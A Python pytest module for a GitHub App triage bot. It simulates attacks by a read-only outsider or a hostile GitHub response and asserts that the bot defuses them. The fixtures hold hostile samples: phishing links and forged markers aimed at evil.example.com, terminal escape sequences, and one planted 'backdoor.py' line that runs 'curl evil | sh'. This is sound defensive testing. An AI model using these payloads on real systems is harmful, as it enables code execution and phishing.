"""Attacks on the notes, /retry, redelivery and the config-problems issue (commits after 499d745).

Played as an outsider with read access only (or a fork author) and as a hostile GitHub answer, against the
real bot over HTTP (webhook → store → job runner → gidgethub → sandbox GitHub). Each test says what it tries.
Each passes because the attack is defended (each failed before its fix: text quoted from GitHub or a check
name pinging or linking from a note, a newline breaking out of a code span, `/retry` replaying an old
`/approve` on a newer head, a body replayed under another delivery's id re-running its job, secrets and
terminal escapes in stored errors, the CLI and plain-text logs). The fixtures are test_never_silent's: one
job slot, notes after 0.3 s. Command floods and markers of other bots while the App's login is unknown are
the subject of issues 13 and 12.
"""

from __future__ import annotations

import asyncio
import contextlib
import copy
import os
import re
import subprocess
import sys
from typing import Any

import pytest

from bot.core import commands, config
from bot.core.markers import marker, markers_in
from bot.github.writes import digest
from tests.conftest import ROOT, SECRET, load_fixture, log_lines, post_webhook
from tests.test_faults import HookTeam, comment_on, team  # noqa: F401
from tests.test_injection import MENTION
from tests.test_never_silent import bot, busy_slot, send, until  # noqa: F401
from tests.test_repo_reads import config_issue, entry
from tests.test_workflows_e2e import REPO, fake, issue_payload, posts, pr_payload  # noqa: F401

EVIL = "https://evil.example.com"
OUR_HOSTS = {"github.com", "api.github.com", "docs.github.com", "127.0.0.1"}
NOTE_TEXT = ("triage-lead received", "could not finish")


# ---- what a reader of the rendered Markdown would get ----------------------------------------------

def _blocks(markdown: str) -> list[str]:
    """Paragraph-level blocks outside fenced/indented code: a code span cannot cross a block boundary (a blank
    line, a list item, a heading, a quote), so text after one is live Markdown whatever backticks preceded it."""
    text = re.sub(r"<!--.*?-->", "", markdown, flags=re.S)  # what GitHub hides
    blocks: list[str] = []
    para: list[str] = []
    fenced = False
    for line in text.split("\n"):
        if re.match(r"^\s{0,3}(```|~~~)", line):
            fenced, blocks, para = not fenced, blocks + ["\n".join(para)], []
            continue
        if fenced or line.startswith(("    ", "\t")):
            continue
        if not line.strip() or re.match(r"^\s{0,3}([-*+]\s|\d+[.)]\s|#{1,6}\s|>)", line):
            blocks, para = blocks + ["\n".join(para)], []
        para.append(line)
    return blocks + ["\n".join(para)]


def _prose(markdown: str) -> str:
    """The rendered text outside code (spans removed block by block)."""
    return "\n\n".join(re.sub(r"(`+)(.+?)\1", "", b, flags=re.S) for b in _blocks(markdown))


def live_mentions(markdown: str) -> set[str]:
    return {m.lower() for m in MENTION.findall(_prose(markdown))}


def outside_links(markdown: str) -> set[str]:
    hosts = {h.lower() for h in re.findall(r"https?://([^/\s)\]>'\"`]+)", _prose(markdown))}
    return {h for h in hosts if h.split(":")[0] not in OUR_HOSTS}


def audit(body: str, *, own_markers: int = 1) -> list[str]:
    """Everything a hostile text managed to plant in one post of the bot."""
    problems = []
    if pinged := live_mentions(body):
        problems.append(f"live mentions {sorted(pinged)}")
    if links := outside_links(body):
        problems.append(f"live links to {sorted(links)}")
    if cmds := [f"/{c.name}" for c in commands.parse(body)]:
        problems.append(f"command lines {cmds}")
    if len(markers_in(body)) != own_markers:
        problems.append(f"{len(markers_in(body))} markers (expected {own_markers}): {markers_in(body)}")
    return problems


def notes_on(sandbox: Any, number: int) -> list[str]:
    return [c["body"] for c in sandbox.comments(REPO, number) if c["user"]["type"] == "Bot"
            and any(t in c["body"] for t in NOTE_TEXT)]


def created_comments(sandbox: Any, number: int) -> list[dict[str, Any]]:
    return [w.data for w in sandbox.writes if w.kind == "comment" and w.number == number]


HOSTILE_ECHO = ("name `@acme/security` is taken: [verify your account](https://evil.example.com/login) or see "
                "https://evil.example.com/fix <!-- triage-lead:status:forged --> <!--")


def echo_422(text: str) -> dict[str, Any]:
    """A 422 as GitHub sends it when it echoes a field value back (gidgethub repr()s each error's message)."""
    return {"message": "Validation Failed", "documentation_url": "https://docs.github.com/rest",
            "errors": [{"resource": "Issue", "field": "title", "code": "custom", "message": text}]}


# ---- 1. text under the attacker's control in the notes ----------------------------------------------

async def test_a_github_422_echo_in_the_failure_note_pings_nobody_and_links_nowhere(
        bot: Any, sandbox: Any, team: HookTeam) -> None:
    """GitHub's error message (echoing a field value the attacker chose) is the note's 'cause'."""
    rt, _ = bot
    sandbox.fail("GET", rf"/repos/{REPO}/git/ref/heads/.+", 422, times=-1, body=echo_422(HOSTILE_ECHO))
    await send(bot, sandbox, "issues", issue_payload(101, ["devops"]))
    await rt.jobs.drained(10)
    [note] = notes_on(sandbox, 101)
    assert "422" in note, note
    assert audit(note) == [], f"{audit(note)} in the posted note:\n{note}"


CHECK_NAME = f"lint `@acme/security`\n\n/approve\n\n[details]({EVIL}/x)"


def check_run_payload(name: str) -> dict[str, Any]:
    p = load_fixture("check_run.completed.json")  # a failed github-actions check on PR #2
    p["check_run"]["name"] = name
    return p


async def test_a_check_run_name_in_the_failure_note_is_defused(bot: Any, sandbox: Any, team: HookTeam) -> None:
    """A fork's workflow names its job (render.ci_failure_issue treats check names as untrusted)."""
    rt, _ = bot
    sandbox.fail("GET", rf"/repos/{REPO}", 403, times=-1, body={"message": "Resource not accessible by integration"})
    await send(bot, sandbox, "check_run", check_run_payload(CHECK_NAME))
    await rt.jobs.drained(10)
    [note] = notes_on(sandbox, 2)
    assert "lint" in note, note
    assert audit(note) == [], f"{audit(note)} in the posted note:\n{note}"


async def test_a_check_run_name_in_the_waiting_note_is_defused(bot: Any, sandbox: Any, team: HookTeam) -> None:
    rt, _ = bot
    rt.jobs.retry_base = 60.0  # the next try is a minute away: the acknowledger speaks meanwhile
    sandbox.fail("GET", rf"/repos/{REPO}", 502, times=-1)
    await send(bot, sandbox, "check_run", check_run_payload(CHECK_NAME))
    await until(lambda: notes_on(sandbox, 2), 10, "a note on #2")
    [note] = notes_on(sandbox, 2)
    assert "lint" in note and "502" in note, note
    assert audit(note) == [], f"{audit(note)} in the posted note:\n{note}"


async def test_a_comments_hostile_arguments_never_reach_the_waiting_note(bot: Any, sandbox: Any,
                                                                         team: HookTeam) -> None:
    """mallory's commands carry hostile arguments while the bot is busy: the note names only the commands."""
    rt, _ = bot
    release = await busy_slot(bot, sandbox, team, 120)
    sandbox.seed_from_payload(issue_payload(119, ["devops"]))
    body = (f"/approve `@acme/security` {EVIL}/login <!-- triage-lead:status:x -->\n"
            f"/status [verify]({EVIL}) @acme/security\n/escalate `x`\n\n/retry\n/cancel")
    await send(bot, sandbox, "issue_comment", comment_on(sandbox, 119, body, login="mallory", comment_id=11901))
    await until(lambda: notes_on(sandbox, 119), 10, "a note on #119")
    [note] = notes_on(sandbox, 119)
    release.set()
    await rt.jobs.drained(30)
    assert "/approve" in note and "11901" in note, note
    assert audit(note) == [], f"{audit(note)} in the posted note:\n{note}"


# ---- 2. text in the config-problems issue and the config check ---------------------------------------

AGENTS_URL = rf"/repos/{REPO}/contents/\.claude/agents"
AGENT_READ = rf"(?s)/repos/{REPO}/contents/\.claude/agents/.+"
SYMLINK = {"type": "symlink", "target": "x", "content": None, "encoding": None}

AGENT_PATHS: dict[str, tuple[str, dict[str, Any]]] = {
    "at-sign": (".claude/agents/@acme/x.md", SYMLINK),
    "backticks": (".claude/agents/`@acme/security` x.md", SYMLINK),
    "outside-link": (f".claude/agents/[verify]({EVIL}/login).md", SYMLINK),
    "forged-marker": (".claude/agents/<!-- triage-lead:status:x -->.md", SYMLINK),
    "newline-in-path": (".claude/agents/x\n\n`@acme/security`\n/approve\n\n[verify](https://evil.example.com).md",
                        SYMLINK),
    "newline-in-type": (".claude/agents/x.md", {"type": "x\n\n`@acme/security`\n/approve\n"}),
}


@pytest.mark.parametrize("case", sorted(AGENT_PATHS))
async def test_an_agent_file_name_in_the_config_issue_stays_inside_its_code_span(
        case: str, bot: Any, sandbox: Any, team: HookTeam) -> None:
    """A listing (or a read) of .claude/agents/ names a file the bot cannot read: the issue quotes it."""
    rt, _ = bot
    path, shape = AGENT_PATHS[case]
    sandbox.fail("GET", AGENTS_URL, 200, times=-1, body=[entry(path, name=path.rsplit("/", 1)[-1])])
    sandbox.fail("GET", AGENT_READ, 200, times=-1, body=entry(path) | shape)
    await send(bot, sandbox, "issues", issue_payload(102, ["devops"]))
    await rt.jobs.drained(30)
    body = config_issue(sandbox)["body"]
    assert "file ignored" in body, body
    assert audit(body) == [], f"{audit(body)} in the config issue:\n{body}"


HOSTILE_KEY = ('labels:\n  "x\\n\\n[Verify your account](https://evil.example.com/login)\\n\\n'
               '`@acme/security`\\n\\n/approve\\n\\nx": 5\n')


async def test_a_config_key_in_the_config_issue_stays_inside_its_code_span(
        bot: Any, sandbox: Any, team: HookTeam) -> None:
    """(Someone who can write the default branch, or the org's .github repository.) A key is echoed in the
    error's path (``labels.<key>``) without escaping."""
    rt, _ = bot
    sandbox.set_file(REPO, config.PATH, HOSTILE_KEY)
    await send(bot, sandbox, "issues", issue_payload(103, ["devops"]))
    await rt.jobs.drained(30)
    body = config_issue(sandbox)["body"]
    assert "is not of type" in body, body
    assert audit(body) == [], f"{audit(body)} in the config issue:\n{body}"


async def test_a_fork_pull_requests_config_key_stays_inside_the_config_checks_code_span(
        bot: Any, sandbox: Any, team: HookTeam) -> None:
    """A fork author's PR changes .github/triage-lead.yml: the bot's own `triage-lead / config` check run
    quotes the errors of the fork's file."""
    rt, _ = bot
    patch = "@@ -0,0 +1,2 @@\n" + "".join(f"+{line}\n" for line in HOSTILE_KEY.splitlines())
    pr = sandbox.add_pull(REPO, number=104, title="Tweak the config", user="mallory", head_ref="patch-104",
                          head_repo="mallory/Hello-World", files={config.PATH: patch})
    payload = load_fixture("pull_request.opened.json")
    payload["pull_request"] |= {"number": 104, "title": pr["title"], "body": "", "labels": []}
    payload["pull_request"]["head"] |= {"sha": pr["head"]["sha"], "ref": pr["head"]["ref"]}
    await send(bot, sandbox, "pull_request", payload)
    await rt.jobs.drained(30)
    [check] = [w.data for w in sandbox.writes if w.kind == "check_run" and w.data["name"] == "triage-lead / config"]
    summary = check["output"]["summary"]
    assert "is not of type" in summary, summary
    outside = [line for line in summary.split("\n") if not (line.startswith("- `") and line.endswith("`"))]
    assert outside == [], f"lines outside the code span of the check's summary: {outside}\n{summary}"
    assert audit(summary, own_markers=0) == [], f"{audit(summary, own_markers=0)} in:\n{summary}"


# ---- 3. forged markers ----------------------------------------------------------------------------------

async def test_a_forged_note_or_reply_marker_in_a_users_comment_is_never_adopted(
        bot: Any, sandbox: Any, team: HookTeam) -> None:
    """mallory (read access) plants the marker of the reply to her own command (predictable:
    reply:<comment id>:<sha1 of 'id:name:arg'>) and of the note the bot is about to post on another thread. The
    bot must post its own, edit nothing of hers, and not believe the thread was told."""
    rt, _ = bot
    sandbox.set_permission(REPO, "mallory", "read")
    sandbox.seed_from_payload(issue_payload(1051, ["devops"]))
    reply_mark = marker("reply", 10502, digest("10502:approve:"))
    await send(bot, sandbox, "issue_comment", comment_on(sandbox, 1051, f"/approve\n{reply_mark}", login="mallory",
                                                         comment_id=10502))
    await rt.jobs.drained(20)
    assert [c for c in created_comments(sandbox, 1051) if "needs write" in c["body"]], "no refusal of her own"
    rt.jobs.retry_base = 60.0
    delivery = "d1050000-0000-0000-0000-000000000001"
    payload = issue_payload(105, ["devops"])
    sandbox.seed_from_payload(payload)
    planted = sandbox.add_comment(REPO, 105, f"Nice.\n{marker('note', delivery)}", user="mallory")
    sandbox.fail("GET", rf"/repos/{REPO}/git/ref/heads/.+", 502, times=-1)  # the job waits in a retry backoff
    await send(bot, sandbox, "issues", payload, delivery=delivery)
    await until(lambda: notes_on(sandbox, 105), 10, "the bot's own note on #105")
    edited = {w.data["id"] for w in sandbox.writes if w.kind in ("comment_edit", "comment_deleted")}
    own = {w.data["id"] for w in sandbox.writes if w.kind == "comment"}
    assert edited <= own, f"the bot edited or deleted comments it did not write: {edited - own}"
    assert {c["id"]: c["body"] for c in sandbox.comments(REPO, 105)}[planted["id"]].startswith("Nice.")
    assert {c["id"]: c["body"] for c in sandbox.comments(REPO, 1051)}[10502].startswith("/approve")


async def test_a_read_only_users_retry_requeues_nothing_and_many_comments_get_one_reply_each(
        bot: Any, sandbox: Any, team: HookTeam) -> None:
    rt, _ = bot
    sandbox.set_permission(REPO, "mallory", "read")
    sandbox.fail("GET", rf"/repos/{REPO}/git/ref/heads/.+", 403, times=1, body={"message": "Resource not accessible by integration"})
    await send(bot, sandbox, "issues", issue_payload(110, ["devops"]))
    await rt.jobs.drained(10)
    assert await rt.store.job_states() == {"failed": 1}
    before = len(created_comments(sandbox, 110))
    for i in range(10):
        await send(bot, sandbox, "issue_comment", comment_on(sandbox, 110, "/retry", login="mallory",
                                                             comment_id=11000 + i))
    await rt.jobs.drained(60)
    states = await rt.store.job_states()
    assert states == {"failed": 1, "done": 10}, states  # the failed job stays failed
    assert "step:triage:1" not in posts(sandbox, 110)
    made = created_comments(sandbox, 110)[before:]
    refusals = [c for c in made if "needs write" in c["body"]]
    # Replies are limited (issue 13): five a minute per person per thread, then one note saying so, no more.
    assert len(refusals) == rt.settings.replies_per_minute == 5
    assert len(made) == 6 and "over the reply limit" in made[-1]["body"]


async def test_many_comments_while_the_bot_is_busy_get_one_note_per_thread(bot: Any, sandbox: Any,
                                                                           team: HookTeam) -> None:
    """mallory (read) posts ten `/help` comments while every job slot is busy: the first five are answered (the
    reply limit, issue 13), then one note says she is over it; none gets its own waiting note."""
    rt, _ = bot
    release = await busy_slot(bot, sandbox, team, 123)
    sandbox.seed_from_payload(issue_payload(124, ["devops"]))
    for i in range(10):
        await send(bot, sandbox, "issue_comment", comment_on(sandbox, 124, "/help", login="mallory",
                                                             comment_id=12400 + i))
    await until(lambda: len(notes_on(sandbox, 124)) >= 1, 10, "a note on #124")
    await asyncio.sleep(1.5)  # several acknowledger passes
    release.set()
    await rt.jobs.drained(30)
    made = created_comments(sandbox, 124)
    notes = [c for c in made if any(t in c["body"] for t in NOTE_TEXT)]
    deleted = [w for w in sandbox.writes if w.kind == "comment_deleted" and w.number == 124]
    replies = [c for c in made if "triage-lead commands" in c["body"]]
    assert len(replies) == rt.settings.replies_per_minute == 5
    assert len([c for c in made if "over the reply limit" in c["body"]]) == 1
    assert len(notes) <= 1, (f"10 comments from a read-only user made {len(made)} comments: {len(replies)} "
                             f"replies and {len(notes)} waiting notes ({len(deleted)} deleted again)")


# ---- 5. running work twice --------------------------------------------------------------------------------

async def test_redelivering_a_running_delivery_does_not_run_it_again(bot: Any, sandbox: Any,
                                                                     team: HookTeam) -> None:
    rt, client = bot
    release = asyncio.Event()
    team.hooks["IMPLEMENTATION"] = release.wait
    delivery = "d1110000-0000-0000-0000-000000000001"
    payload = issue_payload(111, ["devops"])
    await send(bot, sandbox, "issues", payload, delivery=delivery)
    await until(lambda: "step:triage:1" in posts(sandbox, 111), 10, "#111 at work")
    again = await post_webhook(client, "issues", payload, delivery=delivery)
    assert again.status == 200 and (await again.json())["status"] == "duplicate"
    release.set()
    await rt.jobs.drained(30)
    again = await post_webhook(client, "issues", payload, delivery=delivery)
    assert again.status == 200 and (await again.json())["status"] == "duplicate"
    assert await rt.store.job_states() == {"done": 1}
    assert posts(sandbox, 111).count("step:triage:1") == 1 and posts(sandbox, 111).count("status") == 1


async def test_retry_and_redeliver_while_the_failed_job_is_already_queued_again_run_it_once(
        bot: Any, sandbox: Any, team: HookTeam) -> None:
    rt, client = bot
    sandbox.set_permission(REPO, "maintainer", "write")
    sandbox.fail("GET", rf"/repos/{REPO}/git/ref/heads/.+", 403, times=1, body={"message": "Resource not accessible by integration"})
    delivery = "d1120000-0000-0000-0000-000000000001"
    payload = issue_payload(112, ["devops"])
    await send(bot, sandbox, "issues", payload, delivery=delivery)
    await rt.jobs.drained(10)
    assert await rt.store.job_states() == {"failed": 1}
    release = asyncio.Event()
    team.hooks["IMPLEMENTATION"] = release.wait  # the re-run blocks mid-run while the others arrive
    first = await post_webhook(client, "issues", payload, delivery=delivery)
    assert (await first.json())["status"] == "requeued"
    await until(lambda: "step:triage:1" in posts(sandbox, 112), 10, "the re-run at work")
    second = await post_webhook(client, "issues", payload, delivery=delivery)  # Redeliver while it runs
    assert (await second.json())["status"] == "duplicate"
    for cid in (11201, 11202):  # two /retry while it runs
        await send(bot, sandbox, "issue_comment", comment_on(sandbox, 112, "/retry", comment_id=cid))
    release.set()
    await rt.jobs.drained(30)
    assert await rt.store.job_states() == {"done": 3}
    kinds = posts(sandbox, 112)
    assert kinds.count("step:triage:1") == 1 and kinds.count("status") == 1, kinds


async def test_a_replayed_signed_body_cannot_requeue_another_deliverys_failed_job(
        bot: Any, sandbox: Any, team: HookTeam) -> None:
    """The signature covers the body, not X-GitHub-Delivery; failed jobs' delivery ids are public (the note's
    marker, run ids in branch names and commit trailers). Whoever holds one validly signed body (any event, from
    any repository of the installation) can pair it with a failed job's id: "requeued" re-runs that job, as
    `/retry` would, without write access. (The stored payload is run; the body sent is never compared to it.)"""
    rt, client = bot
    sandbox.fail("GET", rf"/repos/{REPO}/git/ref/heads/.+", 403, times=1, body={"message": "Resource not accessible by integration"})
    failed = "d1220000-0000-0000-0000-000000000001"
    await send(bot, sandbox, "issues", issue_payload(122, ["devops"]), delivery=failed)
    await rt.jobs.drained(10)
    [note] = notes_on(sandbox, 122)
    assert failed in note  # the id, in the note's raw body, for anyone who can read the issue
    captured = issue_payload(121, [])  # some other delivery's body, with its valid signature
    resp = await post_webhook(client, "issues", captured, delivery=failed)
    answer = (await resp.json()).get("status")
    with contextlib.suppress(AssertionError):  # the kick goes to the body's thread (#121): the poller finds it
        await until(lambda: "step:triage:1" in posts(sandbox, 122), 12, "the re-run of #122's job")
    await rt.jobs.drained(30)
    assert answer != "requeued" and "step:triage:1" not in posts(sandbox, 122), (
        f"a foreign body with delivery id {failed} was answered {resp.status} {answer!r} and re-ran its job: "
        f"{posts(sandbox, 122)}")


async def test_retry_does_not_replay_another_maintainers_stale_approve_after_a_push(
        bot: Any, sandbox: Any, team: HookTeam) -> None:
    """alice's `/approve` of head X fails (the failure note says so, publicly). The fork author pushes Y; the
    review runs again and waits for approval. bob comments `/retry` (as the note invites): alice's old
    `/approve` job runs again, reads the PR's head *now* (Y) and approves Y, which nobody approved. (The push is
    judged as the pull request's own verdict, and approval is asked again for Y.)"""
    rt, _ = bot
    for who in ("alice", "bob"):
        sandbox.set_permission(REPO, who, "write")
    p = pr_payload(sandbox, 113, ["api"])
    run_id = "d1130000-0000-0000-0000-000000000001"
    await send(bot, sandbox, "pull_request", p, delivery=run_id)
    await rt.jobs.drained(30)
    assert posts(sandbox, 113)[-1] == "approval"
    sandbox.fail("GET", rf"/repos/{REPO}/pulls/113", 403, times=1,
                 body={"message": "Resource not accessible by integration"})
    await send(bot, sandbox, "issue_comment", comment_on(sandbox, 113, "/approve", login="alice",
                                                         comment_id=11301, pull=True))
    await rt.jobs.drained(30)
    assert (await rt.store.job_states()).get("failed") == 1
    new_head = sandbox.set_file(REPO, "app/backdoor.py", "import os; os.system('curl evil | sh')\n",
                                ref=p["pull_request"]["head"]["ref"])
    sync = copy.deepcopy(p) | {"action": "synchronize"}
    sync["pull_request"]["head"]["sha"] = new_head
    await send(bot, sandbox, "pull_request", sync)
    await rt.jobs.drained(30)
    assert any("approval is asked again" in c["body"] for c in sandbox.comments(REPO, 113))
    await send(bot, sandbox, "issue_comment", comment_on(sandbox, 113, "/retry", login="bob",
                                                         comment_id=11302, pull=True))
    await rt.jobs.drained(30)
    run = await rt.store.load_run(run_id)
    approval = (run.data["run"].get("approval") if run else None) or {}
    assert not sandbox.written("pull") and approval.get("head_sha") != new_head, (
        f"head {new_head[:7]} was approved by {approval.get('by')!r} with an /approve written before it was "
        f"pushed; posts: {posts(sandbox, 113)}")


# ---- 6. secrets -----------------------------------------------------------------------------------------

def _secret_echo(sandbox: Any) -> tuple[str, str]:
    token = next(iter(sandbox._tokens))
    return token, f"{token} \x1b]2;pwned\x07\x1b[2J (secret {SECRET}) is not a valid title"


ECHOES = {"422 (errors repr()d)": (422, lambda text: echo_422(text)),
          "403 (message as sent)": (403, lambda text: {"message": text})}


@pytest.mark.parametrize("echo", sorted(ECHOES))
async def test_a_token_or_the_webhook_secret_echoed_by_github_never_reaches_a_note_or_a_log_line(
        echo: str, bot: Any, sandbox: Any, team: HookTeam) -> None:
    rt, _ = bot
    await send(bot, sandbox, "issues", issue_payload(114, ["devops"]))  # a token is issued and cached
    await rt.jobs.drained(30)
    token, text = _secret_echo(sandbox)
    status, body = ECHOES[echo]
    sandbox.fail("GET", rf"/repos/{REPO}/git/ref/heads/.+", status, times=-1, body=body(text))
    with log_lines(json=True) as out:
        await send(bot, sandbox, "issues", issue_payload(115, ["devops"]))
        await rt.jobs.drained(10)
    [note] = notes_on(sandbox, 115)
    for value in (token, token[4:], SECRET):
        assert value not in note, f"{value[:8]}… in the note:\n{note}"
        assert value not in out.getvalue(), f"{value[:8]}… in a log line"
    assert "[redacted]" in note


async def test_a_plain_text_log_line_carries_no_terminal_escape(bot: Any, sandbox: Any, team: HookTeam) -> None:
    """On a terminal the log is plain text: GitHub's message (attacker-influenced) is written to it as is."""
    rt, _ = bot
    sandbox.fail("GET", rf"/repos/{REPO}/git/ref/heads/.+", 403, times=-1,
                 body={"message": "Not allowed \x1b]2;pwned\x07\x1b[2J\x1b[1A\x1b[2Kjob 1 done"})
    with log_lines(json=False) as out:
        await send(bot, sandbox, "issues", issue_payload(118, ["devops"]))
        await rt.jobs.drained(10)
    assert "Not allowed" in out.getvalue()
    assert "\x1b" not in out.getvalue(), f"terminal escapes in the operator's log: {out.getvalue()!r}"


async def test_the_jobs_command_prints_no_token_and_no_terminal_escape(bot: Any, sandbox: Any,
                                                                       team: HookTeam) -> None:
    """`python -m bot jobs` prints each failed job's error (GitHub's message) to the operator's terminal."""
    rt, _ = bot
    await send(bot, sandbox, "issues", issue_payload(116, ["devops"]))
    await rt.jobs.drained(30)
    token, text = _secret_echo(sandbox)
    sandbox.fail("GET", rf"/repos/{REPO}/git/ref/heads/.+", 403, times=-1, body={"message": text})  # a 403's message is not repr()d
    await send(bot, sandbox, "issues", issue_payload(117, ["devops"]))
    await rt.jobs.drained(10)
    env = {**{k: v for k, v in os.environ.items() if not k.startswith(("TRIAGE_LEAD_", "DATABASE_", "GITHUB_"))},
           "DATABASE_URL": rt.settings.database_url}
    listed = await asyncio.to_thread(subprocess.run, [sys.executable, "-m", "bot", "jobs"], cwd=ROOT, env=env,
                                     capture_output=True, text=True, timeout=60)
    assert listed.returncode == 0 and "1 failed job(s)" in listed.stdout, listed
    problems = [what for what, bad in (("the installation token", token[4:] in listed.stdout),
                                       ("the webhook secret", SECRET in listed.stdout),
                                       ("a terminal escape", "\x1b" in listed.stdout)) if bad]
    assert problems == [], f"{problems} printed by `python -m bot jobs`:\n{listed.stdout!r}"
